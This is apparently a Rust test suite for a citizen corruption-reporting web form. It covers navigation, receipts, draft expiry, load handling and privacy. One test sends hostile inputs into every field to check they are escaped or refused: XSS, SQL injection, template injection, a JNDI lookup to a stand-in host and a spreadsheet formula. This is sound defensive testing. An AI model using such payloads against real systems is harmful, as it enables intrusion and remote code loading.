//! A citizen reports: question by question, back and forth, with a lost network, in a flood, with bad intent.

use crate::phone::{answer, fill, gzipped, only_case, part, receipt_in, start, written};
use axum::http::Method;
use civic::directory::Role;
use std::collections::BTreeSet;
use testhouse::{TestHouse, Visitor};

const AT: &str = "/fr/report/denunciation";

async fn house() -> TestHouse {
    TestHouse::on(testkit::sqlite().await).await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_citizen_reports_question_by_question_and_leaves_with_a_receipt_that_opens_the_case() {
    for engine in testkit::engines().await {
        let test = TestHouse::on(engine).await;
        let (alpha, beta) = (test.team("Alpha").await, test.team("Beta").await);
        test.member("awa", Role::Caseworker, Some(alpha), None).await;
        test.member("coumba", Role::Coordinator, Some(beta), None).await;
        let mut citizen = test.visitor();

        let before = citizen.get(AT).await;
        assert_eq!(before.status, 200);
        assert!(before.body.contains("Avant de commencer") && before.body.contains("example.org"));
        assert_eq!(start(&mut citizen).await, "kind");
        assert_eq!(answer(&mut citizen, "kind", &[("kind", "money_asked")]).await, "outcome");
        assert_eq!(answer(&mut citizen, "outcome", &[("outcome", "paid")]).await, "place");

        let looked =
            citizen.post(&format!("{AT}/place"), &[("act", "search"), ("place-words", "segu")]).await;
        assert_eq!(looked.location(), format!("{AT}/place"));
        let found = citizen.get(&format!("{AT}/place")).await;
        assert!(found.body.contains(">Ségou <") || found.body.contains("Ségou<small>"), "{}", found.body);
        let down = citizen.post(&format!("{AT}/place"), &[("act", "in"), ("place-in", "ML04")]).await;
        assert_eq!(down.location(), format!("{AT}/place"));
        let region = citizen.get(&format!("{AT}/place")).await;
        assert_eq!(region.value_of("place"), Some("ML04"), "each step down is an answer");
        assert!(region.body.contains("value=\"ML0406\""), "the cercles of the region");
        assert_eq!(
            answer(&mut citizen, "place", &[("place", "ML04"), ("place-in", "ML0406")]).await,
            "service"
        );

        assert_eq!(answer(&mut citizen, "service", &[("service", "police")]).await, "when");
        assert_eq!(answer(&mut citizen, "when", &[("when-m", "2"), ("when-y", "2027")]).await, "amount");
        assert_eq!(answer(&mut citizen, "amount", &[("amount", "1000_5000")]).await, "narrative");
        let story = "Récit synthétique.\r\nDeux lignes & un « guillemet ».";
        assert_eq!(answer(&mut citizen, "narrative", &[("narrative", story)]).await, "people");
        assert_eq!(answer(&mut citizen, "people", &[("people", "Agent inventé")]).await, "evidence");
        let (kind, body) = part("evidence", "C:\\photos\\recu.jpg", b"synthetic bytes");
        let sent = citizen.send(Method::POST, &format!("{AT}/evidence"), Some(&kind), body).await;
        assert_eq!(written(&sent), "exclude");
        assert!(citizen.get(&format!("{AT}/evidence")).await.body.contains("recu.jpg"));
        let beta = beta.to_string();
        assert_eq!(answer(&mut citizen, "exclude", &[("exclude", &beta)]).await, "contact");
        assert_eq!(answer(&mut citizen, "contact", &[("contact", "receipt")]).await, "consent_referral");
        assert_eq!(answer(&mut citizen, "consent_referral", &[("consent_referral", "yes")]).await, "review");

        let review = citizen.get(&format!("{AT}/review")).await;
        for shown in ["On a demandé de l’argent", "février 2027", "Agent inventé", "recu.jpg", "Beta"] {
            assert!(review.body.contains(shown), "{shown}");
        }
        let receipt = citizen.post(&format!("{AT}/review"), &[]).await;
        assert_eq!(receipt.status, 200);
        assert_eq!(receipt.headers["cache-control"], "no-store");
        assert!(receipt.body.contains("4 mars 2027"), "what comes next, and by when");
        let digits = receipt_in(&receipt);
        assert_eq!(digits.len(), 20);

        let awa = test.handler("awa").await;
        let id = only_case(&test).await;
        let dossier = acts::casework::open(&test.house, &awa, id).await.unwrap();
        let report = dossier.report.unwrap();
        assert_eq!(report["narrative"], story.replace("\r\n", "\n"));
        assert_eq!(report["people"], "Agent inventé");
        assert_eq!(dossier.case.place.as_ref().unwrap().code, "ML0406");
        assert_eq!(dossier.case.facts["when"], "2027-02");
        assert_eq!(dossier.case.attachments.len(), 1);
        let coumba = test.handler("coumba").await;
        assert!(matches!(acts::casework::open(&test.house, &coumba, id).await, Err(acts::Error::NotFound)));
        assert!(acts::follow::enter(&test.house, &digits).await.is_ok());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn back_reload_and_a_new_language_keep_every_answer() {
    let test = house().await;
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    answer(&mut citizen, "kind", &[("kind", "absence")]).await;
    answer(&mut citizen, "narrative", &[("narrative", "Texte gardé")]).await;
    let back = citizen.post(&format!("{AT}/people"), &[("act", "back"), ("people", "Quelqu’un")]).await;
    assert_eq!(written(&back), "narrative");
    for _ in 0..2 {
        assert!(citizen.get(&format!("{AT}/narrative")).await.body.contains("Texte gardé"));
        assert!(citizen.get(&format!("{AT}/people")).await.body.contains("Quelqu’un"));
    }
    let english = citizen.get("/en/report/denunciation/narrative").await;
    assert!(english.body.contains("Texte gardé") && english.body.contains("Step "));
    let before = citizen.get(AT).await;
    assert!(before.body.contains(&format!("href=\"{AT}/narrative\"")), "the draft is found again");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_question_that_is_not_asked_is_passed_over_both_ways_and_never_sent() {
    let test = house().await;
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    assert_eq!(answer(&mut citizen, "kind", &[("kind", "money_asked")]).await, "outcome");
    answer(&mut citizen, "outcome", &[("outcome", "paid")]).await;
    assert_eq!(answer(&mut citizen, "kind", &[("kind", "absence")]).await, "place");
    assert_eq!(written(&citizen.get(&format!("{AT}/outcome")).await), "place");
    let back = citizen.post(&format!("{AT}/place"), &[("act", "back")]).await;
    assert_eq!(written(&back), "kind");
    assert_eq!(answer(&mut citizen, "people", &[("people", "")]).await, "evidence");
    assert_eq!(answer(&mut citizen, "evidence", &[]).await, "contact", "no organisation to exclude");
    assert!(!citizen.get(&format!("{AT}/review")).await.body.contains("payé"));
}

#[tokio::test(flavor = "multi_thread")]
async fn changing_an_answer_from_the_review_leads_back_there_by_way_of_what_became_necessary() {
    let test = house().await;
    let mut citizen = test.visitor();
    fill(&mut citizen, &[("kind", "absence")]).await;
    let path = format!("{AT}/kind?then=review");
    let on = citizen.post(&path, &[("act", "next"), ("kind", "money_asked")]).await;
    assert_eq!(on.location(), format!("{AT}/outcome?then=review"));
    let on = citizen.post(on.location(), &[("act", "next"), ("outcome", "refused")]).await;
    assert_eq!(on.location(), format!("{AT}/amount?then=review"));
    let on = citizen.post(on.location(), &[("act", "next"), ("amount", "unknown")]).await;
    assert_eq!(on.location(), format!("{AT}/review"));
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_to_be_mended_is_said_on_the_same_screen_and_no_answer_is_lost() {
    let test = house().await;
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    let none = citizen.post(&format!("{AT}/kind"), &[("act", "next")]).await;
    assert_eq!(none.status, 422);
    assert!(none.body.contains("class=\"errors\"") && none.body.contains("Choisissez une réponse."));
    let month =
        citizen.post(&format!("{AT}/when"), &[("act", "next"), ("when-m", "2"), ("when-y", "27")]).await;
    assert_eq!(month.status, 422);
    assert_eq!(month.value_of("when-y"), Some("27"), "shown as it was typed");
    let future =
        citizen.post(&format!("{AT}/when"), &[("act", "next"), ("when-m", "4"), ("when-y", "2027")]).await;
    assert!(future.status == 422 && future.body.contains("Choisissez un mois passé"));
    let long = "é".repeat(20_001);
    let long = citizen.post(&format!("{AT}/narrative"), &[("act", "next"), ("narrative", &long)]).await;
    assert!(long.status == 422 && long.body.contains("ééééé"));
    let early = citizen.post(&format!("{AT}/review"), &[]).await;
    assert_eq!(early.status, 422);
    assert!(early.body.contains(&format!("href=\"{AT}/narrative?then=review\"")), "leads to what is missing");
    answer(&mut citizen, "contact", &[("contact", "phone")]).await;
    let phone = citizen.post(&format!("{AT}/contact_phone"), &[("contact_phone", "abc")]).await;
    assert!(phone.status == 422 && phone.body.contains("abc"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_report_sent_again_after_a_lost_answer_gives_the_first_receipt_and_one_case() {
    for engine in testkit::engines().await {
        let test = TestHouse::on(engine).await;
        let mut citizen = test.visitor();
        fill(&mut citizen, &[]).await;
        let first = receipt_in(&citizen.post(&format!("{AT}/review"), &[]).await);
        for _ in 0..3 {
            assert_eq!(receipt_in(&citizen.post(&format!("{AT}/review"), &[]).await), first);
        }
        let page = citizen.get(&format!("{AT}/review")).await;
        assert!(page.status == 200 && page.body.contains("Votre signalement est bien enregistré"));
        assert!(!page.body.contains(&first[..4]), "a page with an address never shows it");
        only_case(&test).await;

        test.clock.advance(24 * 3600 + 1);
        acts::chores::run(&test.house).await.unwrap();
        assert_eq!(citizen.post(&format!("{AT}/review"), &[]).await.status, 410);
        only_case(&test).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn another_language_and_the_first_page_lead_back_to_a_receipt_that_can_still_be_shown() {
    let test = house().await;
    let mut citizen = test.visitor();
    fill(&mut citizen, &[]).await;
    let shown = citizen.post(&format!("{AT}/review"), &[]).await;
    let english = "/en/report/denunciation/review";
    assert!(shown.body.contains(&format!("href=\"{english}\"")), "{}", shown.body);
    let page = citizen.get(english).await;
    assert!(page.body.contains("See my receipt") && page.body.contains(&format!("href=\"{AT}/review\"")));
    assert_eq!(receipt_in(&citizen.post(english, &[]).await), receipt_in(&shown));
    let before = citizen.get(AT).await.body;
    assert!(before.contains("Voir mon reçu") && before.contains("J’ai noté mon reçu, commencer un autre"));
    assert!(!before.contains(">Commencer<"), "starting would take the receipt away: {before}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_button_that_would_erase_a_draft_says_so() {
    let test = house().await;
    let mut citizen = test.visitor();
    assert!(citizen.get(AT).await.body.contains(">Commencer<"));
    start(&mut citizen).await;
    answer(&mut citizen, "kind", &[("kind", "absence")]).await;
    let before = citizen.get(AT).await.body;
    assert!(before.contains(">Reprendre<") && before.contains(">Tout effacer et recommencer<"), "{before}");
    assert!(!before.contains(">Commencer<"), "{before}");
}

#[tokio::test(flavor = "multi_thread")]
async fn two_presses_at_once_make_one_case() {
    let test = house().await;
    let mut citizen = test.visitor();
    fill(&mut citizen, &[]).await;
    let cookie = citizen.cookie("draft").unwrap().to_owned();
    let key = acts::draft::DraftKey::from_cookie(&test.house, &cookie).unwrap();
    let send = || acts::draft::send(&test.house, &key, "denunciation", kernel::Lang::Fr, None);
    let (one, two) = tokio::join!(send(), send());
    let [one, two] = [one, two].map(|sent| match sent.unwrap() {
        acts::draft::Sent::Receipt(receipted) => receipted.receipt,
        _ => panic!("not sent"),
    });
    assert_eq!(one, two);
    only_case(&test).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_draft_that_a_power_cut_left_behind_its_case_gives_the_first_receipt_and_takes_no_turn() {
    let test = TestHouse::with(testkit::sqlite().await, |terms| terms.reports_a_minute = Some(1)).await;
    let mut citizen = test.visitor();
    fill(&mut citizen, &[]).await;
    let cookie = citizen.cookie("draft").unwrap().to_owned();
    let key = acts::draft::DraftKey::from_cookie(&test.house, &cookie).unwrap();
    let left = acts::draft::open(&test.house, &key, "denunciation").await.unwrap().unwrap();
    let first = receipt_in(&citizen.post(&format!("{AT}/review"), &[]).await);
    acts::draft::save(&test.house, &key, "denunciation", &left).await.unwrap();
    answer(&mut citizen, "kind", &[("kind", "abuse")]).await;
    assert_eq!(receipt_in(&citizen.post(&format!("{AT}/review"), &[]).await), first);
    only_case(&test).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_draft_is_gone_after_a_day_and_at_once_when_it_is_erased() {
    let test = house().await;
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    answer(&mut citizen, "narrative", &[("narrative", "Texte")]).await;
    test.clock.advance(23 * 3600);
    assert_eq!(citizen.get(&format!("{AT}/narrative")).await.status, 200);
    test.clock.advance(3600 + 1);
    let gone = citizen.get(&format!("{AT}/narrative")).await;
    assert!(gone.status == 410 && gone.body.contains("Commencer"));

    start(&mut citizen).await;
    let kept = citizen.cookie("draft").unwrap().to_owned();
    assert_eq!(written(&citizen.post(&format!("{AT}/erase"), &[]).await), "erased");
    assert!(citizen.cookie("draft").is_none());
    let key = acts::draft::DraftKey::from_cookie(&test.house, &kept).unwrap();
    assert!(acts::draft::open(&test.house, &key, "denunciation").await.unwrap().is_none());
}

/// A browser with a copy of somebody's draft cookie.
fn thief(test: &TestHouse, cookie: &str) -> Visitor {
    let mut thief = test.visitor();
    thief.extra = vec![("cookie", format!("draft={cookie}"))];
    thief
}

#[tokio::test(flavor = "multi_thread")]
async fn once_the_receipt_is_noted_no_copy_of_the_cookie_shows_it_again() {
    let test = house().await;
    let mut citizen = test.visitor();
    fill(&mut citizen, &[]).await;
    let cookie = citizen.cookie("draft").unwrap().to_owned();
    let receipt = receipt_in(&citizen.post(&format!("{AT}/review"), &[]).await);
    let mut thief = thief(&test, &cookie);
    assert_eq!(receipt_in(&thief.post(&format!("{AT}/review"), &[]).await), receipt, "until it is noted");
    assert_eq!(citizen.post(&format!("{AT}/erase"), &[("act", "written")]).await.location(), "/fr");
    let gone = thief.post(&format!("{AT}/review"), &[]).await;
    assert!(gone.status == 410 && !gone.body.contains("Voir mon reçu"), "{}", gone.body);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_receipt_can_be_shown_again_for_one_hour_and_the_pages_say_so() {
    let test = house().await;
    let mut citizen = test.visitor();
    fill(&mut citizen, &[]).await;
    let sent = citizen.post(&format!("{AT}/review"), &[]).await;
    assert!(sent.body.contains("Pendant une heure, ce téléphone peut montrer encore ce reçu"));
    assert!(citizen.get("/fr/who-sees-what").await.body.contains("Votre reçu pendant une heure"));
    test.clock.advance(3599);
    assert_eq!(receipt_in(&citizen.post(&format!("{AT}/review"), &[]).await), receipt_in(&sent));
    test.clock.advance(2);
    assert_eq!(citizen.post(&format!("{AT}/review"), &[]).await.status, 410);
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_input_in_any_field_is_text_or_a_refusal_and_never_a_failure() {
    let test = house().await;
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    let hostile = [
        "<script>alert(1)</script>".to_owned(),
        "'; DROP TABLE cases; --".to_owned(),
        "{{7*7}} ${jndi:ldap://x.example/a} %s%n".to_owned(),
        "nul\0octet\u{FFFE}".to_owned(),
        "=HYPERLINK(\"https://x.example\")".to_owned(),
        "x".repeat(100_000),
    ];
    let fields = [
        "kind",
        "outcome",
        "place",
        "place-words",
        "place-in",
        "service",
        "when-m",
        "when-y",
        "amount",
        "narrative",
        "people",
        "evidence",
        "exclude",
        "contact",
        "contact_phone",
        "contact_email",
        "consent_referral",
        "ticket",
        "act",
        "unknown_field",
    ];
    let pages: BTreeSet<&str> = fields.iter().map(|field| field.split('-').next().unwrap()).collect();
    for value in &hostile {
        for page in &pages {
            let pairs: Vec<(&str, &str)> = fields.iter().map(|field| (*field, value.as_str())).collect();
            // All at once, without an act of its own, and alone, for one form of 2 MB is refused before it is read.
            for pairs in [&pairs[..], &pairs[..18], &[(*page, value.as_str()), ("act", "next")]] {
                let reply = citizen.post(&format!("{AT}/{page}"), pairs).await;
                assert!(reply.status < 500, "{page}: {}", reply.status);
                assert!(!reply.body.contains("<script>alert"), "{page}");
            }
        }
    }
    let raw: [&[u8]; 4] = [b"narrative=%FF%FE%00&act=next", b"%ZZ=%", b"&&&===", b"narrative"];
    for body in raw {
        let kind = Some("application/x-www-form-urlencoded");
        let reply = citizen.send(Method::POST, &format!("{AT}/narrative"), kind, body.to_vec()).await;
        assert!(reply.status < 500, "{}", reply.status);
        let kind = Some("multipart/form-data; boundary=x");
        let reply = citizen.send(Method::POST, &format!("{AT}/evidence"), kind, body.to_vec()).await;
        assert!(reply.status < 500, "{}", reply.status);
    }
    for path in ["/fr/report/none", "/xx/report/denunciation", "/fr/report/denunciation/nowhere"] {
        assert_eq!(citizen.get(path).await.status, 404, "{path}");
    }
    assert_eq!(citizen.post(&format!("{AT}/nowhere"), &[]).await.status, 404);
    assert_eq!(citizen.send(Method::POST, AT, Some("application/json"), b"{}".to_vec()).await.status, 303);

    let mut citizen = test.visitor();
    let story = "<script>alert(1)</script> '; DROP TABLE cases; -- {{7*7}}";
    fill(&mut citizen, &[("narrative", story)]).await;
    let page = citizen.get(&format!("{AT}/review")).await;
    assert!(page.body.contains("&lt;script&gt;alert(1)&lt;/script&gt; '; DROP TABLE"));
    assert_eq!(receipt_in(&citizen.post(&format!("{AT}/review"), &[]).await).len(), 20);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_can_be_replaced_and_removed_and_a_too_large_one_is_refused_on_the_same_screen() {
    let test = house().await;
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    let path = format!("{AT}/evidence");
    for name in ["un.pdf", "deux.pdf"] {
        let (kind, body) = part("evidence", name, b"synthetic");
        assert_eq!(citizen.send(Method::POST, &path, Some(&kind), body).await.status, 303);
    }
    let shown = citizen.get(&path).await.body;
    assert!(shown.contains("deux.pdf") && !shown.contains("un.pdf"));
    let (kind, body) = part("evidence", "trois.pdf", &vec![7; (8 << 20) + 1]);
    let large = citizen.send(Method::POST, &path, Some(&kind), body).await;
    assert!(large.status == 422 && large.body.contains("trop lourd"), "{}", large.status);
    assert!(citizen.get(&path).await.body.contains("deux.pdf"), "the earlier one stays");
    let removed = citizen.post(&path, &[("act", "remove:evidence")]).await;
    assert_eq!(written(&removed), "evidence");
    assert!(!citizen.get(&path).await.body.contains("deux.pdf"));
}

#[tokio::test(flavor = "multi_thread")]
async fn no_address_carries_anything_a_person_said() {
    let test = house().await;
    let team = test.team("Alpha").await.to_string();
    test.team("Beta").await;
    let mut citizen = test.visitor();
    let said = ["Ségou", "ML04", "police", "Agent inventé", "money_asked", "70000000", &team];
    let mut places = vec![start(&mut citizen).await];
    for (page, pairs) in [
        ("kind", vec![("kind", "money_asked")]),
        ("place", vec![("act", "search"), ("place-words", "Ségou")]),
        ("place", vec![("act", "in"), ("place-in", "ML04")]),
        ("place", vec![("place", "ML04")]),
        ("service", vec![("service", "police")]),
        ("people", vec![("people", "Agent inventé")]),
        ("exclude", vec![("exclude", team.as_str())]),
        ("contact", vec![("contact", "phone")]),
        ("contact_phone", vec![("contact_phone", "70000000")]),
    ] {
        places.push(citizen.post(&format!("{AT}/{page}"), &pairs).await.location().to_owned());
    }
    for place in places {
        assert!(said.iter().all(|word| !place.contains(word)), "{place}");
    }
    let page = citizen.get(&format!("{AT}/place")).await.body;
    let addresses = page.split("href=\"").skip(1).chain(page.split("action=\"").skip(1));
    for address in addresses.filter_map(|rest| rest.split('"').next()) {
        assert!(said.iter().all(|word| !address.contains(word)), "{address}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_written_in_a_draft_can_be_read_in_the_store_without_the_cookie() {
    let test = house().await;
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    answer(&mut citizen, "narrative", &[("narrative", "canari-synthétique-7421")]).await;
    let (kind, body) = part("evidence", "canari.pdf", b"canari-dans-un-fichier-7421");
    citizen.send(Method::POST, &format!("{AT}/evidence"), Some(&kind), body).await;
    for file in std::fs::read_dir(test.engine.folder().unwrap()).unwrap() {
        let file = file.unwrap().path();
        let bytes = std::fs::read(&file).unwrap();
        assert!(!bytes.windows(6).any(|part| part == b"canari"), "{}", file.display());
    }
    let other = acts::draft::begin(&test.house, "denunciation").await.unwrap();
    let theirs = acts::draft::open(&test.house, &other, "denunciation").await.unwrap().unwrap();
    assert!(theirs.answers.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn from_a_place_chosen_step_by_step_one_can_go_back_up_and_to_another_region() {
    let test = house().await;
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    for step in ["ML04", "ML0406"] {
        citizen.post(&format!("{AT}/place"), &[("act", "in"), ("place-in", step)]).await;
    }
    let page = citizen.get(&format!("{AT}/place")).await.body;
    let options = &page[page.find("name=\"place-in\"").unwrap()..];
    for offered in ["ML040601", "ML04", "ML01"] {
        assert!(options.contains(&format!("<option value=\"{offered}\">")), "{offered}: {options}");
    }
    assert!(options.contains("label=\"Remonter\"") && options.contains("label=\"Autre région\""));
    citizen.post(&format!("{AT}/place"), &[("act", "in"), ("place", "ML0406"), ("place-in", "ML01")]).await;
    let page = citizen.get(&format!("{AT}/place")).await;
    assert_eq!(page.value_of("place"), Some("ML01"));
    assert!(page.body.contains("value=\"ML0101\""), "the cercles of the other region");
}

#[tokio::test(flavor = "multi_thread")]
async fn excluding_every_organisation_is_refused_on_its_own_page() {
    let test = house().await;
    let teams = [test.team("Alpha").await.to_string(), test.team("Beta").await.to_string()];
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    let all = [("exclude", teams[0].as_str()), ("exclude", teams[1].as_str())];
    let refused = citizen.post(&format!("{AT}/exclude"), &all).await;
    assert!(refused.status == 422 && refused.body.contains("personne ne pourrait lire votre dossier"));
    assert_eq!(answer(&mut citizen, "exclude", &all[..1]).await, "contact");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_box_takes_no_more_than_the_form_does() {
    let test = house().await;
    let mut citizen = test.visitor();
    for name in ["narrative", "people"] {
        start(&mut citizen).await;
        let page = citizen.get(&format!("{AT}/{name}")).await.body;
        let at = page.find("maxlength=\"").unwrap() + 11;
        let most: usize = page[at..at + page[at..].find('"').unwrap()].parse().unwrap();
        assert_eq!(
            citizen.post(&format!("{AT}/{name}"), &[(name, &"x".repeat(most))]).await.status,
            303,
            "{name}"
        );
        let refused = citizen.post(&format!("{AT}/{name}"), &[(name, &"x".repeat(most + 1))]).await;
        assert_eq!(refused.status, 422, "{name}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn under_load_sending_waits_its_turn_with_the_draft_kept() {
    let test = TestHouse::with(testkit::sqlite().await, |terms| terms.reports_a_minute = Some(1)).await;
    let mut first = test.visitor();
    fill(&mut first, &[]).await;
    assert_eq!(first.post(&format!("{AT}/review"), &[]).await.status, 200);
    let mut second = test.visitor();
    fill(&mut second, &[]).await;
    let wait = second.post(&format!("{AT}/review"), &[]).await;
    assert_eq!(wait.status, 503);
    assert_eq!(wait.headers["retry-after"], "60");
    assert!(wait.body.contains("Vos réponses sont gardées"));
    assert!(wait.body.contains("Votre tour vous est gardé 3 minutes"), "{}", wait.body);
    let ticket = wait.value_of("ticket").unwrap().to_owned();
    assert_eq!(first.post(&format!("{AT}/review"), &[]).await.status, 200, "a repetition needs no turn");
    assert_eq!(second.post(&format!("{AT}/review"), &[("ticket", &ticket)]).await.status, 503, "too early");
    test.clock.advance(60);
    assert_eq!(receipt_in(&second.post(&format!("{AT}/review"), &[("ticket", &ticket)]).await).len(), 20);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_promises_a_turn_only_when_one_is_kept() {
    let test = TestHouse::with(testkit::sqlite().await, |terms| terms.reports_a_minute = Some(1)).await;
    for number in 0..100_u8 {
        acts::gate::admit_page(&test.house, &[number; 32], None).unwrap();
    }
    let mut citizen = test.visitor();
    fill(&mut citizen, &[]).await;
    let none = citizen.post(&format!("{AT}/review"), &[]).await;
    assert_eq!((none.status, none.headers["retry-after"].to_str().unwrap()), (503, "300"));
    assert!(none.body.contains("nous ne pouvons pas encore vous garder un tour"), "{}", none.body);
    assert!(!none.body.contains("Votre tour"));
    let ticket = none.value_of("ticket").unwrap().to_owned();
    test.clock.advance(300);
    let turn = citizen.post(&format!("{AT}/review"), &[("ticket", &ticket)]).await;
    assert!(turn.status == 503 && turn.body.contains("Votre tour vous est gardé"), "{}", turn.body);
}

#[tokio::test(flavor = "multi_thread")]
async fn opera_minis_proxy_is_named_before_anything_is_written() {
    let test = house().await;
    let mut citizen = test.visitor();
    assert!(!citizen.get(AT).await.body.contains("Opera"));
    citizen.extra.push(("user-agent", "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80; U; fr) Presto/2.5".into()));
    let page = citizen.get(AT).await.body;
    assert!(page.contains("Vous utilisez Opera Mini") && page.contains("Continuer quand même"));
}

#[tokio::test(flavor = "multi_thread")]
async fn excluding_every_organisation_is_refused_before_it_silences_the_report() {
    let test = house().await;
    let (alpha, beta) = (test.team("Alpha").await.to_string(), test.team("Beta").await.to_string());
    let mut citizen = test.visitor();
    fill(&mut citizen, &[]).await;
    let refused = citizen.post(&format!("{AT}/exclude"), &[("exclude", &alpha), ("exclude", &beta)]).await;
    assert_eq!(refused.status, 422);
    // Whoever goes on to the review all the same meets it again.
    let refused = citizen.post(&format!("{AT}/review"), &[]).await;
    assert!(refused.status == 422 && refused.body.contains("Laissez au moins une autre"), "{}", refused.body);
    answer(&mut citizen, "exclude", &[("exclude", &beta)]).await;
    assert_eq!(citizen.post(&format!("{AT}/review"), &[]).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_a_report_weighs_at_most_three_kilobytes_and_the_first_at_most_six_with_all_it_pulls() {
    let test = house().await;
    for name in ["Organisation synthétique A", "Organisation synthétique B", "Organisation synthétique C"]
    {
        test.team(name).await;
    }
    let mut citizen = test.visitor();
    let icon = std::fs::read(testhouse::root().join("assets/favicon.svg")).unwrap();
    let icon = gzipped(&icon);
    let mut heaviest = (0, String::new());
    let mut weigh = |name: &str, body: &str| {
        let weight = gzipped(body.as_bytes()) + icon;
        println!("{name:24} {weight}");
        if weight > heaviest.0 {
            heaviest = (weight, name.to_owned());
        }
    };
    for lang in ["fr", "en"] {
        let at = format!("/{lang}/report/denunciation");
        fill(&mut citizen, &[("kind", "money_asked"), ("contact", "phone")]).await;
        let first = citizen.get(&at).await.body;
        weigh(&at, &first);
        // The style sheets come with the first page of a visit and are kept.
        let mut pulled = gzipped(first.as_bytes()) + icon;
        for sheet in first.split("rel=\"stylesheet\" href=\"").skip(1) {
            pulled += gzipped(citizen.get(sheet.split('"').next().unwrap()).await.body.as_bytes());
        }
        assert!(pulled <= 6_000 && pulled > 3_000, "{at}: {pulled}");
        for page in PAGES {
            let shown = citizen.get(&format!("{at}/{page}")).await;
            if shown.status == 200 {
                weigh(page, &shown.body);
            }
        }
        // The commune with the most localities of the country.
        citizen.post(&format!("{at}/place"), &[("act", "in"), ("place-in", "ML020703")]).await;
        weigh("105 localities", &citizen.get(&format!("{at}/place")).await.body);
        citizen.post(&format!("{at}/place"), &[("act", "search"), ("place-words", "ba")]).await;
        weigh("8 places found", &citizen.get(&format!("{at}/place")).await.body);
        weigh("faulty", &citizen.post(&format!("{at}/service"), &[]).await.body);
        weigh("review", &citizen.get(&format!("{at}/review")).await.body);
        weigh("receipt", &citizen.post(&format!("{at}/review"), &[]).await.body);
        weigh("erased", &citizen.get(&format!("{at}/erased")).await.body);
    }
    assert!(heaviest.0 <= 3_000, "{heaviest:?}");
}

const PAGES: [&str; 14] = [
    "kind",
    "outcome",
    "place",
    "service",
    "when",
    "amount",
    "narrative",
    "people",
    "evidence",
    "exclude",
    "contact",
    "contact_phone",
    "contact_email",
    "consent_referral",
];

#[tokio::test(flavor = "multi_thread")]
async fn the_enter_key_looks_for_new_words_and_otherwise_goes_on_with_the_place_chosen() {
    let test = house().await;
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    let at = format!("{AT}/place");
    let page = citizen.get(&at).await.body;
    let form = &page[page.find("<form method=\"post\"").unwrap()..];
    let first = &form[form.find("<button").unwrap()..];
    assert!(first[..first.find('>').unwrap()].contains("value=\"enter\""), "what the Enter key presses");
    let words = [("act", "enter"), ("place-words", "segou"), ("place", "ML01")];
    assert_eq!(written(&citizen.post(&at, &words).await), "place", "new words are looked for");
    let chosen = [("act", "enter"), ("place-words", "segou"), ("place", "ML04")];
    assert_eq!(written(&citizen.post(&at, &chosen).await), "service", "the place chosen is the answer");
    assert_eq!(citizen.get(&at).await.value_of("place"), Some("ML04"));
}

#[tokio::test(flavor = "multi_thread")]
async fn who_finds_no_room_for_a_file_is_told_so_and_goes_on_without_it() {
    let test = house().await;
    let mut citizen = test.visitor();
    start(&mut citizen).await;
    let path = format!("{AT}/evidence");
    test.disk.leave(acts::room::LEAST_FOR_FILES - 1);
    let (kind, body) = part("evidence", "un.pdf", b"synthetic");
    let refused = citizen.send(Method::POST, &path, Some(&kind), body).await;
    assert_eq!(refused.status, 422);
    assert!(refused.body.contains("La place manque pour un fichier"), "{}", refused.body);
    assert_eq!(citizen.post(&path, &[("act", "next")]).await.status, 303);
    let mut citizen = test.visitor();
    fill(&mut citizen, &[]).await;
    let receipt = receipt_in(&citizen.post(&format!("{AT}/review"), &[]).await);

    let mut back = test.visitor();
    assert_eq!(back.post("/fr/follow", &[("receipt", &receipt)]).await.status, 303);
    let (kind, body) = part("file", "un.pdf", b"synthetic");
    let refused = back.send(Method::POST, "/fr/follow/write", Some(&kind), body).await;
    assert!(refused.status == 422 && refused.body.contains("La place manque"), "{}", refused.status);

    test.disk.leave(acts::room::LEAST_FOR_DRAFTS - 1);
    let nothing = test.visitor().post(AT, &[]).await;
    assert_eq!(nothing.status, 503);
    assert!(nothing.body.contains("n’a pas été enregistrée"), "{}", nothing.body);
}
